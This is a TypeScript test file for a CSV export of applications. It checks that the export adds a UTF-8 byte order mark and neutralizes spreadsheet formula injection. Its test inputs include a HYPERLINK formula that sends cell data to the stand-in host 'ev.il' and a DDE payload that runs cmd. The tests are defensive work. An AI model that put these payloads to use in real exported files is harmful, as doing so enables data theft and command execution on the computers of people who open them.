/**
 * The CSV an export writes, as a spreadsheet opens it: an answer never becomes a formula,
 * and the file says it is UTF-8.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { loadEngine } from '../../engine/index';
import type { ExportedApplication } from './applications';
import { exportStream } from './format';

const engine = await loadEngine('demo');

function application(answers: Record<string, string>): ExportedApplication {
  return {
    id: 'u1',
    submitted_at: '2026-11-20T15:30:00.000Z',
    username: 'ada@example.com',
    answers: Object.entries(answers).map(([key, value]) => ({ key, title: key, value })),
    add_another: {},
    tabs: {},
    documents: [],
    pdf: { status: 'COMPLETED', url: 'http://admit.test/service/applications/u1/pdf' },
  };
}

async function csvOf(answers: Record<string, string>): Promise<Buffer> {
  const chunks: Buffer[] = [];
  const stream = exportStream(
    engine.catalogue,
    (async function* () {
      yield application(answers);
    })(),
    'csv',
  );
  for await (const chunk of stream) chunks.push(Buffer.from(chunk));
  return Buffer.concat(chunks);
}

/** The cell of the question `key` in the first record. */
function cell(csv: Buffer, key: string): string | undefined {
  const [header = [], record = []] = parse(csv, { bom: true }) as string[][];
  const title = engine.catalogue.questions.get(key)?.schema.title;
  return record[header.indexOf(title ?? key)];
}

describe('the CSV export', () => {
  it('starts with a UTF-8 byte order mark, so that spreadsheets read accents and other scripts', async () => {
    const csv = await csvOf({ city: 'Zürich 北京' });
    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(cell(csv, 'city')).toBe('Zürich 北京');
  });

  it('writes an answer that a spreadsheet would run as a formula with a leading quote', async () => {
    const formulas = {
      first_name: '=HYPERLINK("http://ev.il/"&C2,"x")',
      last_name: "+1+cmd|' /C calc'!A0",
      middle_name: '-2+3',
      preferred_name: '@SUM(1+1)',
      city: '\t=1+1',
    };
    const csv = await csvOf({ ...formulas, address_line_1: '12 Main St. = home' });
    for (const [key, value] of Object.entries(formulas)) expect(cell(csv, key)).toBe(`'${value}`);
    // Only at the start: elsewhere an equals sign is text.
    expect(cell(csv, 'address_line_1')).toBe('12 Main St. = home');
  });
});
